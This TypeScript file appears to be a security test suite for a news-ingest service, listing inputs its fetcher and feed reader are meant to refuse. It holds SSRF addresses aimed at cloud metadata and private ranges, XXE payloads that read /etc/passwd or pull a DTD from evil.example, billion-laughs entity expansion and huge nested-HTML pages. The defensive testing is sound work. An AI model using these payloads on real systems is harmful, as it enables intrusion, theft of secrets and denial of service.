import { admitUrl, type FetchSource } from "@/lib/ingest/fetch/fetch-document";
import { findRefusal, isPublicAddress } from "@/lib/ingest/fetch/public-address";
import type { FeedItem } from "@/lib/ingest/news/read-feed";
import { readInWorker } from "@/lib/ingest/read-worker/read-pool";
import { type Attack, attacksOf } from "./attack";

const inwardAddresses = {
  "this host": "127.0.0.1",
  "this host, by another number": "127.8.8.8",
  "no host": "0.0.0.0",
  "a private network, 10": "10.0.0.1",
  "a private network, 172": "172.20.0.1",
  "a private network, 192": "192.168.0.1",
  "the metadata of clouds": "169.254.169.254",
  "carrier-grade NAT": "100.64.0.1",
  benchmarking: "198.18.0.1",
  broadcast: "255.255.255.255",
  multicast: "224.0.0.1",
  "IPv6 loopback": "::1",
  "IPv6 unspecified": "::",
  "IPv4 mapped into IPv6": "::ffff:127.0.0.1",
  "IPv4 mapped into IPv6, in hexadecimal": "::ffff:7f00:1",
  "IPv4 translated (NAT64)": "64:ff9b::7f00:1",
  "6to4 of this host": "2002:7f00:1::1",
  Teredo: "2001::1",
  "unique local": "fc00::1",
  "link-local": "fe80::1",
  "link-local with a zone": "fe80::1%eth0",
  "site-local": "fec0::1",
  "metadata of clouds over IPv6": "fd00:ec2::254",
};

const addresses = attacksOf<string>({
  name: "an article's host that resolves to",
  section: "V1.3",
  ways: inwardAddresses,
  lawful: "8.8.8.8",
  isOpen: (_, address) => isPublicAddress(address),
});

const news: FetchSource = {
  name: "news",
  hosts: "any public host",
  base: null,
  userAgent: "test",
  spacingMs: null,
  pauseMs: 1,
};

const urls = attacksOf<string>({
  name: "an article's address",
  section: "V1.3",
  ways: {
    "by http": "http://news.example.com/a",
    "on another port": "https://news.example.com:8080/a",
    "with a password": "https://user:secret@news.example.com/a",
    "this host by name": "https://localhost/a",
    "this host by name with a dot": "https://localhost./a",
    "this host in decimal": "https://2130706433/a",
    "this host in octal": "https://0177.0.0.1/a",
    "this host in hexadecimal": "https://0x7f.0.0.1/a",
    "this host shortened": "https://127.1/a",
    "this host in IPv6": "https://[::1]/a",
    "the metadata of clouds": "https://169.254.169.254/latest/meta-data",
    "a name of the inner network": "https://wiki.internal/a",
    "a name of the office": "https://printer.lan/a",
    "a name without a dot": "https://intranet/a",
    "a host in full-width digits": "https://\uff11\uff12\uff17.0.0.1/a",
    "a file": "file:///etc/passwd",
    ftp: "ftp://news.example.com/a",
    gopher: "gopher://news.example.com/a",
    "data in the address": "data:text/html,x",
    script: "javascript:alert(1)",
    "no address": "news",
  },
  lawful: "https://news.example.com/a",
  isOpen: (_, address) => isAdmitted(address),
});

function isAdmitted(address: string): boolean {
  try {
    admitUrl(address, news);
    return true;
  } catch (error) {
    if (findRefusal(error) === null) throw error;
    return false;
  }
}

const feed = (title: string, { prolog = "", link = "https://news.example.com/a" } = {}) =>
  `<?xml version="1.0"?>${prolog}<rss version="2.0"><channel><title>t</title><link>https://news.example.com</link>` +
  `<item><title>${title}</title><link>${link}</link><guid>1</guid>` +
  `<pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>`;

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");

const feeds = attacksOf<string>({
  name: "a feed that reads or swells",
  section: "V1.5",
  ways: {
    "a file by an external entity": feed("&x;", {
      prolog: '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    }),
    "an address by an external entity": feed("&x;", {
      prolog: '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
    }),
    "a parameter entity": feed("x", {
      prolog: '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    }),
    "a billion laughs": feed("&l9;", { prolog: `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}]>` }),
    "one entity many times": feed("&a;".repeat(20_000), {
      prolog: `<!DOCTYPE rss [<!ENTITY a "${"a".repeat(20_000)}">]>`,
    }),
    "a document type alone": feed("x", { prolog: '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">' }),
    "50,000 levels": `<?xml version="1.0"?><rss><channel>${"<a>".repeat(50_000)}`,
    "no feed": "<html><body>x</body></html>",
  },
  lawful: feed("A title"),
  isOpen: async (_, text) => (await readItems(text)).length > 0,
});

/** What the reading worker finds in a feed. */
async function readItems(text: string): Promise<FeedItem[]> {
  const reading = await readInWorker("feed", {
    bytes: new TextEncoder().encode(text),
    contentType: "application/rss+xml; charset=utf-8",
    place: { url: "https://news.example.com/feed", base: null, today: "2026-03-03" },
  });
  return reading.outcome === "done" && reading.result.outcome === "read" ? reading.result.items : [];
}

const links = attacksOf<string>({
  name: "an article of a feed whose link is",
  section: "V1.3",
  ways: {
    script: "javascript:alert(1)",
    "data in the address": "data:text/html,x",
    "a file": "file:///etc/passwd",
    "by http on this host": "http://127.0.0.1/a",
    "another port": "https://news.example.com:8443/a",
  },
  lawful: "https://news.example.com/a",
  isOpen: async (_, link) => (await readItems(feed("A title", { link }))).some(({ url }) => isAdmitted(url)),
});

const nested = (levels: number, text: string) =>
  `<html><head><title>t</title></head><body><article>${"<div>".repeat(levels)}${text}</article></body></html>`;
const prose =
  "<p>The company said on Monday that it had opened a new plant in Ohio, its third there.</p>".repeat(20);

const pages = attacksOf<string>({
  name: "a page that keeps its reader busy",
  section: "V15.2",
  ways: {
    "2.5 MB of <": "<".repeat(2_500_000),
    "a tag of 240,000 attributes": `<p ${"a=1 ".repeat(240_000)}>x</p>`,
    "190 levels around 2.9 MB": nested(190, "word ".repeat(580_000)),
    "100,000 levels": nested(100_000, prose),
    "100,000 tags that end nothing": `<body>${"</div>".repeat(600_000)}${prose}`,
  },
  lawful: nested(3, prose),
  isOpen: async (_, html) => {
    const page = await readInWorker("page", {
      bytes: new TextEncoder().encode(html),
      contentType: "text/html; charset=utf-8",
    });
    return page.outcome === "done" && JSON.stringify(page.result).includes("third there");
  },
});

export const sources: Attack[] = [...addresses, ...urls, ...feeds, ...links, ...pages];
